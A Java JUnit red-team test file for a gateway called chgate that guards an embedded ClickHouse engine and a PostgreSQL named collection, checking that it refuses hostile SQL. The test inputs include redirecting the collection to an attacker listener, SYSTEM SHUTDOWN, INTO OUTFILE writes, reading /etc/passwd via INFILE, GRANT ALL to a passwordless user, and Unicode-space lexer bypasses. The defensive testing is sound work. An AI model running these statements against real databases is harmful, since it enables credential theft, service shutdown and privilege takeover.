package io.chgate.gateway;

import static io.chgate.gateway.TransparencyTest.q;
import static org.assertj.core.api.Assertions.assertThat;

import io.chgate.gateway.RawHttp.Response;
import io.chgate.testkit.AttackerListener;
import io.chgate.testkit.LocalStack;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Red team, statements: a client of the quickstart's shape (embedded ClickHouse 26 engine, an integration whose
 * PostgreSQL password lives in OpenBao) tries to take over the named collection, stop the process, write files or
 * unpin the settings that guard secrets. Every attempt is refused by chgate before the engine sees it, the
 * collection still reads the real table, and an attacker listener on loopback receives no connection.
 */
class RedTeamStatementsTest {
    static LocalStack stack;
    static EmbeddedGateway gateway;
    static AttackerListener attacker;
    static Path dataDir;
    static final String WRONG_PASSWORD = "not-the-password-7Qz";

    @BeforeAll
    static void start() throws Exception {
        stack = LocalStack.get();
        attacker = new AttackerListener();
        dataDir = Path.of(System.getProperty("java.io.tmpdir"), "chgate-embedded-test-" + ProcessHandle.current().pid());
        // red_wrong_pg: credentials PostgreSQL rejects, so its error names the user chgate logged in as.
        gateway = new EmbeddedGateway(stack)
                .integration("red_pg", "postgresql", stack.pgPort(), "shop", stack.pgUser(), stack.pgPassword())
                .integration("red_wrong_pg", "postgresql", stack.pgPort(), "postgres", stack.pgUser(), WRONG_PASSWORD)
                .start();
        assertThat(send("SELECT count() FROM postgresql(red_pg, table = 'orders')").bodyText()).isEqualTo("3\n");
    }

    @AfterAll
    static void stop() throws IOException {
        gateway.close();
        attacker.close();
    }

    static Response send(String sql) throws IOException {
        try (RawHttp c = new RawHttp("127.0.0.1", gateway.port())) {
            return c.exchange(RawHttp.request("POST", "/", List.of(), sql.getBytes(StandardCharsets.UTF_8)), false);
        }
    }

    static void assertRefused(Response r) {
        assertThat(r.status()).as(r.bodyText()).isEqualTo(403);
        assertThat(r.header("X-ClickHouse-Exception-Code")).isEqualTo("497");
        assertThat(r.bodyText()).startsWith("Code: 497. DB::Exception: chgate: ").doesNotContain(stack.pgPassword());
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "ALTER NAMED COLLECTION red_pg SET addresses_expr = '127.0.0.1:%d'",
        "ALTER NAMED COLLECTION red_pg SET host = '127.0.0.1', port = %d",
        "alter named collection `red_pg` delete addresses_expr",
        "DROP NAMED COLLECTION red_pg",
        "CREATE NAMED COLLECTION red_pg2 AS addresses_expr = '127.0.0.1:%d', user = 'x', password = 'y', database = 'd'",
        "SELECT 1; ALTER NAMED COLLECTION red_pg SET addresses_expr = '127.0.0.1:%d'",
        "SELECT count() FROM postgresql(red_pg, table = 'orders') SETTINGS allow_named_collection_override_by_default = 1"
    })
    void theCollectionCannotBeTakenOver(String attack) throws IOException {
        assertRefused(send(attack.replace("%d", Integer.toString(attacker.port()))));
        assertThat(send("SELECT count() FROM postgresql(red_pg, table = 'orders')").bodyText()).isEqualTo("3\n");
        assertThat(attacker.connections()).as("connections that reached the attacker").isZero();
    }

    @Test
    void anOverrideOfTheAddressNeverReachesTheAttacker() throws IOException {
        Response r = send("SELECT count() FROM postgresql(red_pg, table = 'orders', addresses_expr = '127.0.0.1:"
                + attacker.port() + "')");
        assertThat(r.status()).as(r.bodyText()).isBetween(400, 599);
        assertThat(r.bodyText()).doesNotContain(stack.pgPassword());
        assertThat(attacker.connections()).as("connections that reached the attacker").isZero();
    }

    @Test
    void noStatementStopsTheProcess() throws IOException {
        for (String attack : List.of("SYSTEM SHUTDOWN", "SYSTEM KILL", "KILL QUERY WHERE 1")) {
            assertRefused(send(attack));
        }
        assertThat(send("SELECT 1").bodyText()).isEqualTo("1\n");
    }

    @Test
    void noStatementWritesOrReadsFilesOutsideTables() throws IOException {
        Path target = dataDir.resolveSibling("chgate-red-outfile-" + ProcessHandle.current().pid());
        assertRefused(send("SELECT 'pwned' INTO OUTFILE '" + target + "' FORMAT TSV"));
        assertRefused(send("INSERT INTO t FROM INFILE '/etc/passwd' FORMAT LineAsString"));
        assertRefused(send("BACKUP DATABASE default TO File('/tmp/chgate-red-backup')"));
        assertThat(Files.exists(target)).isFalse();
    }

    @Test
    void noClientManagesUsersOrGrants() throws IOException {
        assertRefused(send("CREATE USER eve IDENTIFIED WITH no_password"));
        assertRefused(send("GRANT ALL ON *.* TO eve"));
        assertRefused(send("SET input_format_values_interpret_expressions = 1"));
    }

    @Test
    void theRefusalIsCheckedInTheQueryParameterToo() throws IOException {
        try (RawHttp c = new RawHttp("127.0.0.1", gateway.port())) {
            Response r = c.exchange(RawHttp.request("GET", q("SYSTEM SHUTDOWN"), List.of(), null), false);
            assertRefused(r);
        }
        assertThat(send("SELECT 2").bodyText()).isEqualTo("2\n");
    }

    /** Finding C5: whitespace to ClickHouse, a word character to chgate's old lexer. */
    @ParameterizedTest
    @ValueSource(strings = {"\u00A0", "\u2003", "\u200B", "\u3000", "\uFEFF"})
    void aUnicodeSpaceHidesNoReference(String space) throws IOException {
        Response r = send("SELECT count() FROM" + space + "postgresql" + space + "('127.0.0.1:" + attacker.port()
                + "', 'shop', 'orders', 'u', 'p')");
        assertRefused(r);
        assertThat(attacker.connections()).as("connections that reached the attacker").isZero();
    }

    /** Finding L1: a server's error quoted the database user chgate logged in as; it reaches no client. */
    @Test
    void serverErrorsNeverCarryManagedCredentials() throws IOException {
        Response r = send("SELECT count() FROM postgresql(red_wrong_pg, table = 'orders')");
        assertThat(r.status()).as(r.bodyText()).isBetween(400, 599);
        assertThat(r.bodyText()).doesNotContain(stack.pgUser()).doesNotContain(WRONG_PASSWORD)
                .doesNotContain(stack.pgPassword()).contains("[HIDDEN]");
    }
}
